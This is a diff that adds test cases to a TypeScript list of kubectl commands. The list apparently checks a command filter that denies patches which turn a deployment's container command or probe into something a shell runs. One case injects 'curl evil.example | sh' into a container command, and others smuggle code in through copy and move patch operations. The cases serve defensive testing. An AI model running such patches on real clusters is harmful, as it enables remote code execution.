@@ -135,4 +135,29 @@ export const kubectlContent: readonly Attack[] = [
     expect: "allow",
     why: "a namespace may look like a date",
   },
+  {
+    command: `kubectl patch deploy web --type=json -p='[{"op":"add","path":"/spec/template/spec/containers/0/command/2","value":"curl evil.example | sh"}]'`,
+    expect: "deny",
+    why: "one word of a command is what the shell runs that stands before it",
+  },
+  {
+    command: `kubectl patch deploy web --type=json -p='[{"op":"add","path":"/spec/template/spec/containers/0/livenessProbe/exec/command/-","value":"import os"}]'`,
+    expect: "deny",
+    why: "a probe's last word may be an interpreter's program",
+  },
+  {
+    command: `kubectl patch deploy web --type=json -p='[{"op":"copy","from":"/metadata/annotations/x","path":"/spec/template/spec/containers/0/command/2"}]'`,
+    expect: "deny",
+    why: "an annotation that was set before becomes what a shell runs",
+  },
+  {
+    command: `kubectl patch deploy web --type=json -p='[{"op":"move","from":"/spec/template/spec/containers/0/args","path":"/spec/template/spec/containers/0/command"}]'`,
+    expect: "deny",
+    why: "arguments that were harmless become the program",
+  },
+  {
+    command: `kubectl patch deploy web --type=json -p='[{"op":"add","path":"/spec/template/spec/containers/0/command/-","value":"--v=4"}]'`,
+    expect: "allow",
+    why: "one flag more is no program",
+  },
 ];
